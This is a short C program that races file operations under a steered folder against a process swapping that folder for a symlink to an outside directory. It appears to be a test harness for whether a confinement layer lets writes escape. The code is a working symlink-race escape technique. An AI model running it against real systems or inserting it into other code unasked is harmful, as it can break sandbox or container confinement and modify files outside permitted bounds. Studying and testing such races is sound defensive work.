/* tree_race.c - changes names below a steered folder while another process swaps that folder,
 * in the tree where it lies, with a link that leads out.
 *
 * tree_race TRIES TOP TREE OUTSIDE: names are changed below TOP/d, TREE/d is swapped with a link
 * to OUTSIDE. Prints the tries, and how many changes were made. Whether one of them was made in
 * OUTSIDE is for who started this to see. */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <unistd.h>

static char path[4][4096];

static const char *join(int slot, const char *a, const char *b)
{
	snprintf(path[slot], sizeof(path[slot]), "%s/%s", a, b);
	return path[slot];
}

/* The pause lets the folder be one for as long as it is a link. */
static void swap(const char *tree, const char *outside)
{
	char d[4096], away[4096];

	snprintf(d, sizeof(d), "%s/d", tree);
	snprintf(away, sizeof(away), "%s/away", tree);
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	for (;;) {
		if (rename(d, away) < 0 || symlink(outside, d) < 0)
			perror("swap");
		if (unlink(d) < 0 || rename(away, d) < 0)
			perror("swap back");
		usleep(200);
	}
}

static int change(const char *top)
{
	const char *tmp = join(0, top, "d/tmp"), *victim = join(1, top, "d/victim");
	const char *other = join(2, top, "d/other"), *folder = join(3, top, "d/folder");
	const int fd = open(tmp, O_CREAT | O_WRONLY, 0600);
	int made = fd >= 0;

	if (fd >= 0)
		close(fd);
	made += rename(tmp, victim) == 0;
	made += link(victim, other) == 0;
	made += chmod(victim, 0640) == 0;
	made += truncate(victim, 1) == 0;
	made += setxattr(victim, "user.a", "v", 1, 0) == 0;
	made += unlink(other) == 0;
	made += mkdir(folder, 0700) == 0;
	made += rmdir(folder) == 0;
	return made;
}

int main(int argc, char **argv)
{
	long tries, made = 0, i;
	pid_t swapper;

	if (argc != 5)
		return 2;
	tries = strtol(argv[1], NULL, 10);
	mkdir(join(0, argv[3], "d"), 0700);
	swapper = fork();
	if (swapper == 0)
		swap(argv[3], argv[4]);
	for (i = 0; i < tries; i++)
		made += change(argv[2]);
	kill(swapper, SIGKILL);
	printf("%ld %ld\n", tries, made);
	return 0;
}
